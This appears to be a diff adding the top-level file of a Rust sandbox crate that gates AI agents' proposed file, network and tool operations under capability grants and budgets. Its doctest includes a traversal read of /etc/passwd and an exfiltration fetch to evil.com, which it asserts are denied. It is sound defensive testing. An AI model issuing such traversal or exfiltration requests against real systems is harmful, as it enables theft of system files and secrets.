@@ -1,0 +1,61 @@
+//! sbx-wasm: run untrusted, model-proposed actions under a capability grant.
+//!
+//! Every operation passes one [`Sandbox`] gate, in a fixed order: charge the
+//! budgets (`max_ops`, `max_wall`: hard), check the capability (mounts,
+//! egress rules, tool allow-list: soft), perform the effect through handles
+//! the grant opened (cap-std `Dir`s, a [`net::Net`], a [`tools::ToolRegistry`]),
+//! then charge `max_output_bytes` (hard). A denied operation is a value, never
+//! a panic, and never performs its effect.
+//!
+//! # Examples
+//!
+//! ```
+//! use sbx_wasm::{Capabilities, Op, Sandbox, SandboxedAgent, StoppedReason, Violation};
+//!
+//! let work = tempfile::tempdir()?;
+//! let out = tempfile::tempdir()?;
+//! std::fs::write(work.path().join("data.txt"), "q3 numbers")?;
+//!
+//! let caps = Capabilities::builder()
+//!     .read_mount(work.path(), "/work")
+//!     .write_mount(out.path(), "/work/out")
+//!     .allow_egress("https://api.internal")
+//!     .max_ops(3)
+//!     .build()?;
+//! let mut agent = SandboxedAgent::new(Sandbox::new(caps)?);
+//! let run = agent.run_all([
+//!     Op::read("/work/data.txt"),
+//!     Op::read("/work/../etc/passwd"),
+//!     Op::fetch("https://evil.com/steal?data=secrets"),
+//!     Op::write("/work/out/report.txt", "done"),
+//! ]);
+//! let got: Vec<_> = run.results.iter().map(|r| r.violation()).collect();
+//! assert_eq!(got, [None, Some(Violation::PathTraversal), Some(Violation::EgressDenied), Some(Violation::MaxOps)]);
+//! assert_eq!(run.stopped_reason, StoppedReason::HardLimit);
+//! assert!(!out.path().join("report.txt").exists());
+//! # Ok::<(), Box<dyn std::error::Error>>(())
+//! ```
+#![forbid(unsafe_code)]
+#![warn(missing_docs)]
+
+pub mod agent;
+pub mod budget;
+pub mod caps;
+pub mod error;
+pub mod fs;
+pub mod gate;
+pub mod net;
+pub mod op;
+pub mod plan;
+pub mod report;
+pub mod tools;
+pub mod violation;
+
+pub use agent::{AgentRun, SandboxedAgent, StoppedReason};
+pub use budget::{Budget, Clock, MonotonicClock, TickClock, Usage};
+pub use caps::{Capabilities, CapabilitiesBuilder};
+pub use error::{CapsError, Error};
+pub use gate::{Sandbox, SandboxBuilder};
+pub use op::{Op, OpError, Output, SandboxResult};
+pub use report::{AuditEvent, RunReport, Status};
+pub use violation::{Denial, Violation};
